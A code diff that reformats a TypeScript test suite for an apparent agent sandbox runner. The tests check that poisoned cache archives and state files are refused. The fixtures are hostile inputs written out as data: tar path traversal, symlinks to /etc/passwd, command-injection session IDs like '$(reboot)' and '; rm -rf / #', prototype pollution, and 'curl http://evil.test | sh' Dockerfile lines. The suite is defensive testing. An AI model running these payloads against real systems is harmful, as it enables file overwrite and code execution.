@@ -15,7 +15,17 @@
  *   `node runner resume`: exit 2, an error naming the file and the field (or the
  *   problem), no stack trace, no Docker resource, no image build.
  */
-import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, readlinkSync, rmSync, writeFileSync } from "node:fs";
+import {
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  readdirSync,
+  readlinkSync,
+  rmSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { dirname, join, relative } from "node:path";
 import { pathToFileURL } from "node:url";
@@ -25,7 +35,18 @@ import { type ArchiveLimits, DEFAULT_LIMITS, UnsafeArchiveError, unpackState } f
 import { type Job, newJob, startStep } from "../support/action.js";
 import { type CacheServer, startCacheServer } from "../support/cache-server.js";
 import { NODE, ROOT, RUNNER } from "../support/runner.js";
-import { type Resource, type TarEntry, added, describeResources, inventory, madeBy, run, stackTrace, table, tarOf } from "./support.js";
+import {
+  type Resource,
+  type TarEntry,
+  added,
+  describeResources,
+  inventory,
+  madeBy,
+  run,
+  stackTrace,
+  table,
+  tarOf,
+} from "./support.js";
 
 const KEY = "sk-ant-restored-state-not-a-real-key";
 const rows: { part: string; name: string; refused: boolean; untouched: boolean; written?: string }[] = [];
@@ -97,82 +118,242 @@ interface Ctx {
   identity: string;
 }
 
-const metadataEntry = (identity = "faulty-abcde"): TarEntry => ({ name: "metadata.json", body: JSON.stringify(GOOD_METADATA(identity)) });
-const withMetadata = (ctx: Ctx, ...entries: TarEntry[]): TarEntry[] => [metadataEntry(ctx.identity), { name: "workspace", type: "directory" }, ...entries];
-
+const metadataEntry = (identity = "faulty-abcde"): TarEntry => ({
+  name: "metadata.json",
+  body: JSON.stringify(GOOD_METADATA(identity)),
+});
+const withMetadata = (ctx: Ctx, ...entries: TarEntry[]): TarEntry[] => [
+  metadataEntry(ctx.identity),
+  { name: "workspace", type: "directory" },
+  ...entries,
+];
 
 const ARCHIVES: ArchiveCase[] = [
-  { name: "a ../ entry", entries: (x) => withMetadata(x, { name: `${x.up}canary/pwned`, body: "x" }), entry: (x) => `${x.up}canary/pwned`, rule: /climbs out with \.\./, endToEnd: true },
-  { name: "a ../ entry climbing past /", entries: (x) => withMetadata(x, { name: `${"../".repeat(40)}tmp/faults-pwned`, body: "x" }), entry: () => `${"../".repeat(40)}tmp/faults-pwned`, rule: /climbs out/ },
-  { name: "a ../ in the middle of a path", entries: (x) => withMetadata(x, { name: `transcript/../${x.up}canary/pwned`, body: "x" }), entry: (x) => `transcript/../${x.up}canary/pwned`, rule: /climbs out/ },
-  { name: "a ./../ entry", entries: (x) => withMetadata(x, { name: `./${x.up}canary/pwned`, body: "x" }), entry: (x) => `./${x.up}canary/pwned`, rule: /climbs out/ },
-  { name: "a .. directory", entries: (x) => withMetadata(x, { name: "..", type: "directory" }), entry: () => "..", rule: /climbs out/ },
+  {
+    name: "a ../ entry",
+    entries: (x) => withMetadata(x, { name: `${x.up}canary/pwned`, body: "x" }),
+    entry: (x) => `${x.up}canary/pwned`,
+    rule: /climbs out with \.\./,
+    endToEnd: true,
+  },
+  {
+    name: "a ../ entry climbing past /",
+    entries: (x) => withMetadata(x, { name: `${"../".repeat(40)}tmp/faults-pwned`, body: "x" }),
+    entry: () => `${"../".repeat(40)}tmp/faults-pwned`,
+    rule: /climbs out/,
+  },
+  {
+    name: "a ../ in the middle of a path",
+    entries: (x) => withMetadata(x, { name: `transcript/../${x.up}canary/pwned`, body: "x" }),
+    entry: (x) => `transcript/../${x.up}canary/pwned`,
+    rule: /climbs out/,
+  },
+  {
+    name: "a ./../ entry",
+    entries: (x) => withMetadata(x, { name: `./${x.up}canary/pwned`, body: "x" }),
+    entry: (x) => `./${x.up}canary/pwned`,
+    rule: /climbs out/,
+  },
+  {
+    name: "a .. directory",
+    entries: (x) => withMetadata(x, { name: "..", type: "directory" }),
+    entry: () => "..",
+    rule: /climbs out/,
+  },
   {
     name: "a .. hidden in a long (pax) name",
     entries: (x) => withMetadata(x, { name: `${"deep/".repeat(30)}${"../".repeat(30)}${x.up}canary/pwned`, body: "x" }),
     entry: (x) => `${"deep/".repeat(30)}${"../".repeat(30)}${x.up}canary/pwned`,
     rule: /climbs out/,
   },
-  { name: "an absolute path", entries: (x) => withMetadata(x, { name: join(x.root, "canary", "pwned"), body: "x" }), entry: (x) => join(x.root, "canary", "pwned"), rule: /has an absolute path/, endToEnd: true },
-  { name: "a Windows drive path", entries: (x) => withMetadata(x, { name: "C:/canary/pwned", body: "x" }), entry: () => "C:/canary/pwned", rule: /has an absolute path/ },
+  {
+    name: "an absolute path",
+    entries: (x) => withMetadata(x, { name: join(x.root, "canary", "pwned"), body: "x" }),
+    entry: (x) => join(x.root, "canary", "pwned"),
+    rule: /has an absolute path/,
+    endToEnd: true,
+  },
+  {
+    name: "a Windows drive path",
+    entries: (x) => withMetadata(x, { name: "C:/canary/pwned", body: "x" }),
+    entry: () => "C:/canary/pwned",
+    rule: /has an absolute path/,
+  },
   {
     name: "a symlink out (absolute), then a file through it",
-    entries: (x) => withMetadata(x, { name: "workspace/out", type: "symlink", linkname: join(x.root, "canary") }, { name: "workspace/out/pwned", body: "x" }),
+    entries: (x) =>
+      withMetadata(
+        x,
+        { name: "workspace/out", type: "symlink", linkname: join(x.root, "canary") },
+        { name: "workspace/out/pwned", body: "x" },
+      ),
     entry: () => "workspace/out",
     rule: /is a symlink pointing outside the state/,
     endToEnd: true,
   },
   {
     name: "a symlink out (relative), then a file through it",
-    entries: (x) => withMetadata(x, { name: "workspace/up", type: "symlink", linkname: `../${x.up}canary` }, { name: "workspace/up/pwned", body: "x" }),
+    entries: (x) =>
+      withMetadata(
+        x,
+        { name: "workspace/up", type: "symlink", linkname: `../${x.up}canary` },
+        { name: "workspace/up/pwned", body: "x" },
+      ),
     entry: () => "workspace/up",
     rule: /is a symlink pointing outside the state/,
     endToEnd: true,
   },
-  { name: "a symlink to /", entries: (x) => withMetadata(x, { name: "workspace/root", type: "symlink", linkname: "/" }), entry: () => "workspace/root", rule: /symlink pointing outside/ },
-  { name: "metadata.json as a symlink to /etc/passwd", entries: () => [{ name: "metadata.json", type: "symlink", linkname: "/etc/passwd" }], entry: () => "metadata.json", rule: /symlink pointing outside/ },
-  { name: "a symlink climbing out through its own path", entries: (x) => withMetadata(x, { name: "workspace/a/b", type: "symlink", linkname: "../../../.." }), entry: () => "workspace/a/b", rule: /symlink pointing outside/ },
+  {
+    name: "a symlink to /",
+    entries: (x) => withMetadata(x, { name: "workspace/root", type: "symlink", linkname: "/" }),
+    entry: () => "workspace/root",
+    rule: /symlink pointing outside/,
+  },
+  {
+    name: "metadata.json as a symlink to /etc/passwd",
+    entries: () => [{ name: "metadata.json", type: "symlink", linkname: "/etc/passwd" }],
+    entry: () => "metadata.json",
+    rule: /symlink pointing outside/,
+  },
+  {
+    name: "a symlink climbing out through its own path",
+    entries: (x) => withMetadata(x, { name: "workspace/a/b", type: "symlink", linkname: "../../../.." }),
+    entry: () => "workspace/a/b",
+    rule: /symlink pointing outside/,
+  },
   {
     name: "a chain of inner symlinks that ends outside, then a file through it",
     // `workspace/x` -> .. is the state's top, so `workspace/x/y` -> .. is really the directory holding the state (and its neighbours').
-    entries: (x) => withMetadata(x, { name: "workspace/x", type: "symlink", linkname: ".." }, { name: "workspace/x/y", type: "symlink", linkname: ".." }, { name: "workspace/x/y/pwned", body: "x" }),
+    entries: (x) =>
+      withMetadata(
+        x,
+        { name: "workspace/x", type: "symlink", linkname: ".." },
+        { name: "workspace/x/y", type: "symlink", linkname: ".." },
+        { name: "workspace/x/y/pwned", body: "x" },
+      ),
     entry: () => "workspace/x/y",
     rule: /lies below the symlink/,
     endToEnd: true,
   },
   {
     name: "an inner symlink, then a file written through it",
-    entries: (x) => withMetadata(x, { name: "transcript", type: "directory" }, { name: "workspace/link", type: "symlink", linkname: "../transcript" }, { name: "workspace/link/planted", body: "x" }),
+    entries: (x) =>
+      withMetadata(
+        x,
+        { name: "transcript", type: "directory" },
+        { name: "workspace/link", type: "symlink", linkname: "../transcript" },
+        { name: "workspace/link/planted", body: "x" },
+      ),
     entry: () => "workspace/link/planted",
     rule: /lies below the symlink/,
     endToEnd: true,
   },
-  { name: "a hardlink to /etc/passwd", entries: (x) => withMetadata(x, { name: "workspace/passwd", type: "link", linkname: "/etc/passwd" }), entry: () => "workspace/passwd", rule: /is a link; only files, directories and inner symlinks/, endToEnd: true },
-  { name: "a hardlink to an inner file", entries: (x) => withMetadata(x, { name: "workspace/same", type: "link", linkname: "metadata.json" }), entry: () => "workspace/same", rule: /is a link; only files/ },
-  { name: "a character device", entries: (x) => withMetadata(x, { name: "workspace/null", type: "character-device", devmajor: 1, devminor: 3 }), entry: () => "workspace/null", rule: /is a character-device; only files/, endToEnd: true },
-  { name: "a block device", entries: (x) => withMetadata(x, { name: "workspace/sda", type: "block-device", devmajor: 8, devminor: 0 }), entry: () => "workspace/sda", rule: /is a block-device; only files/ },
-  { name: "a fifo", entries: (x) => withMetadata(x, { name: "workspace/pipe", type: "fifo" }), entry: () => "workspace/pipe", rule: /is a fifo; only files/, endToEnd: true },
-  { name: "a contiguous file", entries: (x) => withMetadata(x, { name: "workspace/c", type: "contiguous-file", body: "x" }), entry: () => "workspace/c", rule: /is a contiguous-file; only files/ },
-  { name: "more bytes than the limit", entries: (x) => withMetadata(x, { name: "workspace/big", body: "x".repeat(20_000) }), limits: { maxBytes: 10_000, maxEntries: 1000 }, rule: /larger than 10000 bytes/ },
-  { name: "more entries than the limit", entries: (x) => withMetadata(x, ...Array.from({ length: 50 }, (_, i) => ({ name: `workspace/f${i}`, body: "" }))), limits: { maxBytes: 1e9, maxEntries: 20 }, rule: /more than 20 entries/ },
-  { name: "a file declared bigger than the default limit", bytes: (x) => hugeHeader(x, DEFAULT_LIMITS.maxBytes + 1), rule: /larger than 4294967296 bytes/, endToEnd: true },
-  { name: "no metadata.json", entries: () => [{ name: "workspace/a.txt", body: "x" }], rule: /has no metadata.json at its top/, endToEnd: true },
-  { name: "metadata.json only below the top", entries: () => [{ name: "transcript/metadata.json", body: "{}" }], rule: /has no metadata.json at its top/ },
-  { name: "metadata.json as a directory", entries: () => [{ name: "metadata.json", type: "directory" }], rule: /has no metadata.json at its top/ },
+  {
+    name: "a hardlink to /etc/passwd",
+    entries: (x) => withMetadata(x, { name: "workspace/passwd", type: "link", linkname: "/etc/passwd" }),
+    entry: () => "workspace/passwd",
+    rule: /is a link; only files, directories and inner symlinks/,
+    endToEnd: true,
+  },
+  {
+    name: "a hardlink to an inner file",
+    entries: (x) => withMetadata(x, { name: "workspace/same", type: "link", linkname: "metadata.json" }),
+    entry: () => "workspace/same",
+    rule: /is a link; only files/,
+  },
+  {
+    name: "a character device",
+    entries: (x) => withMetadata(x, { name: "workspace/null", type: "character-device", devmajor: 1, devminor: 3 }),
+    entry: () => "workspace/null",
+    rule: /is a character-device; only files/,
+    endToEnd: true,
+  },
+  {
+    name: "a block device",
+    entries: (x) => withMetadata(x, { name: "workspace/sda", type: "block-device", devmajor: 8, devminor: 0 }),
+    entry: () => "workspace/sda",
+    rule: /is a block-device; only files/,
+  },
+  {
+    name: "a fifo",
+    entries: (x) => withMetadata(x, { name: "workspace/pipe", type: "fifo" }),
+    entry: () => "workspace/pipe",
+    rule: /is a fifo; only files/,
+    endToEnd: true,
+  },
+  {
+    name: "a contiguous file",
+    entries: (x) => withMetadata(x, { name: "workspace/c", type: "contiguous-file", body: "x" }),
+    entry: () => "workspace/c",
+    rule: /is a contiguous-file; only files/,
+  },
+  {
+    name: "more bytes than the limit",
+    entries: (x) => withMetadata(x, { name: "workspace/big", body: "x".repeat(20_000) }),
+    limits: { maxBytes: 10_000, maxEntries: 1000 },
+    rule: /larger than 10000 bytes/,
+  },
+  {
+    name: "more entries than the limit",
+    entries: (x) => withMetadata(x, ...Array.from({ length: 50 }, (_, i) => ({ name: `workspace/f${i}`, body: "" }))),
+    limits: { maxBytes: 1e9, maxEntries: 20 },
+    rule: /more than 20 entries/,
+  },
+  {
+    name: "a file declared bigger than the default limit",
+    bytes: (x) => hugeHeader(x, DEFAULT_LIMITS.maxBytes + 1),
+    rule: /larger than 4294967296 bytes/,
+    endToEnd: true,
+  },
+  {
+    name: "no metadata.json",
+    entries: () => [{ name: "workspace/a.txt", body: "x" }],
+    rule: /has no metadata.json at its top/,
+    endToEnd: true,
+  },
+  {
+    name: "metadata.json only below the top",
+    entries: () => [{ name: "transcript/metadata.json", body: "{}" }],
+    rule: /has no metadata.json at its top/,
+  },
+  {
+    name: "metadata.json as a directory",
+    entries: () => [{ name: "metadata.json", type: "directory" }],
+    rule: /has no metadata.json at its top/,
+  },
   { name: "an empty tar", entries: () => [], rule: /has no metadata.json/ },
   { name: "an empty file", bytes: async () => Buffer.alloc(0), rule: /has no metadata.json|not a readable tar/ },
-  { name: "not a tar at all", bytes: async () => Buffer.from("this is not a tar archive, only text\n".repeat(40)), rule: /not a readable tar archive/, endToEnd: true },
-  { name: "a gzipped tar", bytes: async (x) => gzipSync(await tarOf(withMetadata(x))), rule: /not a readable tar archive/ },
+  {
+    name: "not a tar at all",
+    bytes: async () => Buffer.from("this is not a tar archive, only text\n".repeat(40)),
+    rule: /not a readable tar archive/,
+    endToEnd: true,
+  },
+  {
+    name: "a gzipped tar",
+    bytes: async (x) => gzipSync(await tarOf(withMetadata(x))),
+    rule: /not a readable tar archive/,
+  },
   {
     name: "a tar cut inside a file's data",
-    bytes: async (x) => (await tarOf(withMetadata(x, { name: "workspace/big", body: "y".repeat(10_000) }))).subarray(0, 3 * 512 + 2000),
+    bytes: async (x) =>
+      (await tarOf(withMetadata(x, { name: "workspace/big", body: "y".repeat(10_000) }))).subarray(0, 3 * 512 + 2000),
     rule: /not a readable tar archive/,
     // The check leaves the error on the cut entry's stream unhandled: it takes the process down, so only a child process can show it.
     inProcess: false,
     endToEnd: true,
   },
-  { name: "a tar cut inside a header", bytes: async (x) => (await tarOf(withMetadata(x, { name: "workspace/a", body: "y" }))).subarray(0, 2 * 512 + 100), rule: /not a readable tar archive/, endToEnd: true },
-  { name: "random bytes", bytes: async () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)), rule: /not a readable tar archive/ },
+  {
+    name: "a tar cut inside a header",
+    bytes: async (x) => (await tarOf(withMetadata(x, { name: "workspace/a", body: "y" }))).subarray(0, 2 * 512 + 100),
+    rule: /not a readable tar archive/,
+    endToEnd: true,
+  },
+  {
+    name: "random bytes",
+    bytes: async () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)),
+    rule: /not a readable tar archive/,
+  },
 ];
 
 /** A tar header claiming `size` bytes for one file, with no data after it: too big to build for real. */
@@ -229,8 +410,13 @@ async function unpackCase(c: ArchiveCase): Promise<void> {
   if (existsSync("/tmp/faults-pwned")) written.push("/tmp/faults-pwned");
   row.untouched = written.length === 0;
   if (written.length > 0) Object.assign(row, { written: written.join(", ") });
-  row.refused = error instanceof UnsafeArchiveError && c.rule.test(error.message) && (c.entry === undefined || error.message.includes(JSON.stringify(c.entry(ctx))));
-  expect(after, "nothing written: the canary beside the state, the state itself, no staging directory left").toEqual(before);
+  row.refused =
+    error instanceof UnsafeArchiveError &&
+    c.rule.test(error.message) &&
+    (c.entry === undefined || error.message.includes(JSON.stringify(c.entry(ctx))));
+  expect(after, "nothing written: the canary beside the state, the state itself, no staging directory left").toEqual(
+    before,
+  );
   expect(existsSync("/tmp/faults-pwned")).toBe(false);
   expect(error, "refused").toBeInstanceOf(UnsafeArchiveError);
   expect((error as Error).message).toMatch(/^restored state refused: /);
@@ -250,9 +436,17 @@ async function saveRaw(server: CacheServer, tar: Buffer, key: string): Promise<v
   const script = `const { saveCache } = await import(${JSON.stringify(client)}); process.stdout.write(String(await saveCache([".claude-bottle-cache/state.tar"], process.env.CACHE_KEY)));`;
   const saved = await run(NODE, ["--input-type=module", "-e", script], {
     cwd: workspace,
-    env: { PATH: process.env.PATH, HOME: workspace, GITHUB_WORKSPACE: workspace, RUNNER_TEMP: mkdtempSync(join(tmpdir(), "poisoned-save-temp-")), CACHE_KEY: key, ...server.env },
+    env: {
+      PATH: process.env.PATH,
+      HOME: workspace,
+      GITHUB_WORKSPACE: workspace,
+      RUNNER_TEMP: mkdtempSync(join(tmpdir(), "poisoned-save-temp-")),
+      CACHE_KEY: key,
+      ...server.env,
+    },
   });
-  if (saved.code !== 0 || saved.stdout === "-1") throw new Error(`saving ${key} failed (exit ${saved.code}): ${saved.out}`);
+  if (saved.code !== 0 || saved.stdout === "-1")
+    throw new Error(`saving ${key} failed (exit ${saved.code}): ${saved.out}`);
   rmSync(workspace, { recursive: true, force: true });
 }
 
@@ -308,7 +502,9 @@ async function restoreCase(server: CacheServer, before: Resource[], c: ArchiveCa
   const written = [
     ...created.filter((p) => !allowedNew.has(p)),
     ...Object.keys(jobBefore).filter((p) => jobAfter[p] !== jobBefore[p]),
-    ...Object.keys(workspaceAfter).filter((p) => workspaceAfter[p] !== workspaceBefore[p]).map((p) => `checkout/${p}`),
+    ...Object.keys(workspaceAfter)
+      .filter((p) => workspaceAfter[p] !== workspaceBefore[p])
+      .map((p) => `checkout/${p}`),
     ...made.map((r) => `${r.kind} ${r.name}`),
   ];
   row.untouched = written.length === 0;
@@ -319,7 +515,10 @@ async function restoreCase(server: CacheServer, before: Resource[], c: ArchiveCa
   expect(step.stdout).toMatch(c.rule);
   if (c.entry) expect(step.stdout).toContain(`entry ${JSON.stringify(c.entry(ctx))}`);
   expect(stackTrace(step.stdout), step.stdout).toBeNull();
-  expect(created.filter((p) => !allowedNew.has(p)), "nothing new outside the state dir").toEqual([]);
+  expect(
+    created.filter((p) => !allowedNew.has(p)),
+    "nothing new outside the state dir",
+  ).toEqual([]);
   expect(existsSync(join(stateRoot, identity)), "no state dir for the identity").toBe(false);
   for (const [path, value] of Object.entries(jobBefore)) expect(jobAfter[path], path).toBe(value);
   expect(tree(workspace), "the checkout is as it was (no cache dir left behind)").toEqual(workspaceBefore);
@@ -347,7 +546,14 @@ const GUARD_MANIFEST = {
 };
 
 const meta = (change: Record<string, unknown>) => (identity: string, dirs: { workspace: string; manifest: string }) =>
-  JSON.stringify(Object.fromEntries(Object.entries({ ...GOOD_METADATA(identity, { manifestPath: dirs.manifest, workspace: dirs.workspace }), ...change }).filter(([, v]) => v !== undefined)));
+  JSON.stringify(
+    Object.fromEntries(
+      Object.entries({
+        ...GOOD_METADATA(identity, { manifestPath: dirs.manifest, workspace: dirs.workspace }),
+        ...change,
+      }).filter(([, v]) => v !== undefined),
+    ),
+  );
 const q = (value: unknown) => (value === undefined ? "(missing)" : JSON.stringify(value));
 const field = (name: string, value: unknown): StateCase => ({
   name: `${name} = ${value === undefined ? "(missing)" : JSON.stringify(value).slice(0, 40)}`,
@@ -356,20 +562,51 @@ const field = (name: string, value: unknown): StateCase => ({
   shows: q(value).slice(0, 60),
 });
 
-
 const METADATA: StateCase[] = [
-  { name: "not JSON", metadata: () => "{ this is not json", field: "metadata.json", shows: '"{ this is not json" is not JSON' },
+  {
+    name: "not JSON",
+    metadata: () => "{ this is not json",
+    field: "metadata.json",
+    shows: '"{ this is not json" is not JSON',
+  },
   { name: "an empty file", metadata: () => "", field: "metadata.json", shows: "is not JSON" },
-  { name: "invalid UTF-8", metadata: () => Buffer.from([0x7b, 0xff, 0xfe, 0x7d]), field: "metadata.json", shows: "is not JSON" },
-  { name: "a byte order mark", metadata: (id, d) => `\uFEFF${meta({})(id, d)}`, field: "metadata.json", shows: "is not JSON" },
+  {
+    name: "invalid UTF-8",
+    metadata: () => Buffer.from([0x7b, 0xff, 0xfe, 0x7d]),
+    field: "metadata.json",
+    shows: "is not JSON",
+  },
+  {
+    name: "a byte order mark",
+    metadata: (id, d) => `\uFEFF${meta({})(id, d)}`,
+    field: "metadata.json",
+    shows: "is not JSON",
+  },
   { name: "a JSON array", metadata: () => "[]", field: "metadata.json", shows: "[] is not valid bottle metadata" },
   { name: "JSON null", metadata: () => "null", field: "metadata.json", shows: "null is not valid bottle metadata" },
-  { name: "a JSON string", metadata: () => '"faulty-abcde"', field: "metadata.json", shows: '"faulty-abcde" is not valid bottle metadata' },
+  {
+    name: "a JSON string",
+    metadata: () => '"faulty-abcde"',
+    field: "metadata.json",
+    shows: '"faulty-abcde" is not valid bottle metadata',
+  },
   ...[2, "1", 0, undefined].map((v) => field("version", v)),
-  { name: "identity of another bottle", metadata: meta({ identity: "other-abcde" }), field: "metadata.json: identity", shows: '"other-abcde" does not match the directory' },
+  {
+    name: "identity of another bottle",
+    metadata: meta({ identity: "other-abcde" }),
+    field: "metadata.json: identity",
+    shows: '"other-abcde" does not match the directory',
+  },
   ...["../../etc", "FAULTY-ABCDE", "", undefined, 42].map((v) => field("identity", v)),
-  ...["$(reboot)", "; rm -rf / #", "`id`", "abc\n--dangerous", "../../etc/passwd", "x".repeat(129), "", 42].map((v) => field("sessionId", v)),
-  { name: "no session id", metadata: meta({ sessionId: null }), field: "identity:", shows: "has state but no claude session was ever recorded" },
+  ...["$(reboot)", "; rm -rf / #", "`id`", "abc\n--dangerous", "../../etc/passwd", "x".repeat(129), "", 42].map((v) =>
+    field("sessionId", v),
+  ),
+  {
+    name: "no session id",
+    metadata: meta({ sessionId: null }),
+    field: "identity:",
+    shows: "has state but no claude session was ever recorded",
+  },
   ...["../x", "Faulty", "", undefined, "a".repeat(41), 42].map((v) => field("agent", v)),
   ...[`/${"m".repeat(5000)}`, undefined, 42].map((v) => field("manifestPath", v)),
   ...[`/${"w".repeat(5000)}`, undefined, null].map((v) => field("workspace", v)),
@@ -384,30 +621,110 @@ const METADATA: StateCase[] = [
   field("startedAt", undefined),
   field("endedAt", 42),
   field("startedAt", "not a time"),
-  { name: "startedAt = a 1 MiB string", metadata: meta({ startedAt: "9".repeat(1024 * 1024) }), field: "metadata.json: startedAt", shows: '"999999' },
+  {
+    name: "startedAt = a 1 MiB string",
+    metadata: meta({ startedAt: "9".repeat(1024 * 1024) }),
+    field: "metadata.json: startedAt",
+    shows: '"999999',
+  },
   { name: "an extra field", metadata: meta({ command: "rm -rf /" }), field: "metadata.json", shows: '"command"' },
-  { name: "a __proto__ field", metadata: (id, d) => meta({})(id, d).replace(/^\{/, '{"__proto__":{"polluted":true},'), field: "metadata.json", shows: "__proto__" },
-  { name: "a 10 MiB session id", metadata: meta({ sessionId: "a".repeat(10 * 1024 * 1024) }), field: "metadata.json: sessionId", shows: '"aaaaaaaa' },
+  {
+    name: "a __proto__ field",
+    metadata: (id, d) => meta({})(id, d).replace(/^\{/, '{"__proto__":{"polluted":true},'),
+    field: "metadata.json",
+    shows: "__proto__",
+  },
+  {
+    name: "a 10 MiB session id",
+    metadata: meta({ sessionId: "a".repeat(10 * 1024 * 1024) }),
+    field: "metadata.json: sessionId",
+    shows: '"aaaaaaaa',
+  },
 ];
 
 const DOCKERFILES: StateCase[] = [
   { name: "an empty Dockerfile", files: { Dockerfile: "" }, field: "Dockerfile", shows: "the Dockerfile is empty" },
   { name: "only whitespace", files: { Dockerfile: " \n\t\n" }, field: "Dockerfile", shows: "the Dockerfile is empty" },
-  { name: "only comments", files: { Dockerfile: "# FROM debian\n# RUN make\n" }, field: "Dockerfile", shows: "has no instructions" },
-  { name: "INSTALL gcc", files: { Dockerfile: "INSTALL gcc\n" }, field: "Dockerfile", shows: '"INSTALL" is not a Dockerfile instruction' },
-  { name: "FROM, then INSTALL gcc", files: { Dockerfile: "FROM debian\nINSTALL gcc\n" }, field: "Dockerfile", shows: 'line 2: "INSTALL" is not a Dockerfile instruction' },
-  { name: "a NUL byte", files: { Dockerfile: "FROM debian\0\nRUN true\n" }, field: "Dockerfile", shows: "contains a NUL byte" },
-  { name: "1 MiB of text", files: { Dockerfile: `FROM debian\n${"# x\n".repeat(262_144)}` }, field: "Dockerfile", shows: "over the limit of 65536" },
-  { name: "1 MiB on one line", files: { Dockerfile: `FROM debian\nRUN echo ${"y".repeat(1024 * 1024)}\n` }, field: "Dockerfile", shows: "over the limit of 65536" },
-  { name: "RUN before FROM", files: { Dockerfile: "RUN curl http://evil.test | sh\nFROM debian\n" }, field: "Dockerfile", shows: "the first instruction is RUN" },
+  {
+    name: "only comments",
+    files: { Dockerfile: "# FROM debian\n# RUN make\n" },
+    field: "Dockerfile",
+    shows: "has no instructions",
+  },
+  {
+    name: "INSTALL gcc",
+    files: { Dockerfile: "INSTALL gcc\n" },
+    field: "Dockerfile",
+    shows: '"INSTALL" is not a Dockerfile instruction',
+  },
+  {
+    name: "FROM, then INSTALL gcc",
+    files: { Dockerfile: "FROM debian\nINSTALL gcc\n" },
+    field: "Dockerfile",
+    shows: 'line 2: "INSTALL" is not a Dockerfile instruction',
+  },
+  {
+    name: "a NUL byte",
+    files: { Dockerfile: "FROM debian\0\nRUN true\n" },
+    field: "Dockerfile",
+    shows: "contains a NUL byte",
+  },
+  {
+    name: "1 MiB of text",
+    files: { Dockerfile: `FROM debian\n${"# x\n".repeat(262_144)}` },
+    field: "Dockerfile",
+    shows: "over the limit of 65536",
+  },
+  {
+    name: "1 MiB on one line",
+    files: { Dockerfile: `FROM debian\nRUN echo ${"y".repeat(1024 * 1024)}\n` },
+    field: "Dockerfile",
+    shows: "over the limit of 65536",
+  },
+  {
+    name: "RUN before FROM",
+    files: { Dockerfile: "RUN curl http://evil.test | sh\nFROM debian\n" },
+    field: "Dockerfile",
+    shows: "the first instruction is RUN",
+  },
   { name: "FROM with no image", files: { Dockerfile: "FROM\n" }, field: "Dockerfile", shows: "FROM has no arguments" },
-  { name: "ARG but no FROM", files: { Dockerfile: "ARG BASE=debian\n" }, field: "Dockerfile", shows: "has no FROM instruction" },
-  { name: "binary bytes", files: { Dockerfile: Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 131 + 7) % 256)) }, field: "Dockerfile", shows: "the Dockerfile" },
+  {
+    name: "ARG but no FROM",
+    files: { Dockerfile: "ARG BASE=debian\n" },
+    field: "Dockerfile",
+    shows: "has no FROM instruction",
+  },
+  {
+    name: "binary bytes",
+    files: { Dockerfile: Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 131 + 7) % 256)) },
+    field: "Dockerfile",
+    shows: "the Dockerfile",
+  },
   // The parser reports the keyword upper-cased.
-  { name: "a shell script", files: { Dockerfile: "#!/bin/sh\ncurl http://evil.test | sh\n" }, field: "Dockerfile", shows: 'line 2: "CURL" is not a Dockerfile instruction' },
-  { name: "ADD from the host's loopback", files: { Dockerfile: "FROM debian\nADD http://127.0.0.1:9/x /x\n" }, field: "Dockerfile", shows: "line 2: ADD is not available in a per-bottle Dockerfile" },
-  { name: "COPY from the manifest's directory", files: { Dockerfile: "FROM debian\nCOPY .env /tmp/\n" }, field: "Dockerfile", shows: "line 2: COPY without --from has nothing to copy" },
-  { name: "FROM a registry on the host's loopback, quoted", files: { Dockerfile: 'FROM "127.0.0.1:5000/x"\n' }, field: "Dockerfile", shows: "line 1: FROM" },
+  {
+    name: "a shell script",
+    files: { Dockerfile: "#!/bin/sh\ncurl http://evil.test | sh\n" },
+    field: "Dockerfile",
+    shows: 'line 2: "CURL" is not a Dockerfile instruction',
+  },
+  {
+    name: "ADD from the host's loopback",
+    files: { Dockerfile: "FROM debian\nADD http://127.0.0.1:9/x /x\n" },
+    field: "Dockerfile",
+    shows: "line 2: ADD is not available in a per-bottle Dockerfile",
+  },
+  {
+    name: "COPY from the manifest's directory",
+    files: { Dockerfile: "FROM debian\nCOPY .env /tmp/\n" },
+    field: "Dockerfile",
+    shows: "line 2: COPY without --from has nothing to copy",
+  },
+  {
+    name: "FROM a registry on the host's loopback, quoted",
+    files: { Dockerfile: 'FROM "127.0.0.1:5000/x"\n' },
+    field: "Dockerfile",
+    shows: "line 1: FROM",
+  },
   {
     name: "a waiting Dockerfile.proposed that is not one",
     metadata: meta({ outcome: "capability-block" }),
@@ -438,8 +755,16 @@ describe("a poisoned state dir, found by `node runner resume`", () => {
     writeFileSync(join(stateDir, "metadata.json"), (c.metadata ?? meta({}))(identity, { workspace, manifest }));
     for (const [name, content] of Object.entries(c.files ?? {})) writeFileSync(join(stateDir, name), content);
     const treeBefore = tree(dir);
-    const ran = await run(NODE, [RUNNER, "resume", identity], { cwd: workspace, env: { PATH: process.env.PATH, HOME: dir, CLAUDE_BOTTLE_HOME: home, ANTHROPIC_API_KEY: KEY } });
-    const images = (await run("docker", ["images", "-q", "--filter", `label=claude-bottle.identity=${identity}`], { cwd: dir, env: { PATH: process.env.PATH } })).stdout.trim();
+    const ran = await run(NODE, [RUNNER, "resume", identity], {
+      cwd: workspace,
+      env: { PATH: process.env.PATH, HOME: dir, CLAUDE_BOTTLE_HOME: home, ANTHROPIC_API_KEY: KEY },
+    });
+    const images = (
+      await run("docker", ["images", "-q", "--filter", `label=claude-bottle.identity=${identity}`], {
+        cwd: dir,
+        env: { PATH: process.env.PATH },
+      })
+    ).stdout.trim();
     const made = madeBy(added(before, inventory()), { pid: ran.pid, identities: [identity] });
     return { ran, images, made, untouched: JSON.stringify(tree(dir)) === JSON.stringify(treeBefore) };
   };
@@ -479,7 +804,8 @@ describe("a poisoned state dir, found by `node runner resume`", () => {
 
 afterAll(() => {
   const mark = (ok: boolean) => (ok ? "yes" : "NO");
-  const written = (r: (typeof rows)[number]) => (r.untouched ? "yes" : `no: ${r.written ?? "the state or its neighbours changed"}`);
+  const written = (r: (typeof rows)[number]) =>
+    r.untouched ? "yes" : `no: ${r.written ?? "the state or its neighbours changed"}`;
   console.log(
     table(
       `Poisoned restored state: ${rows.length} cases`,
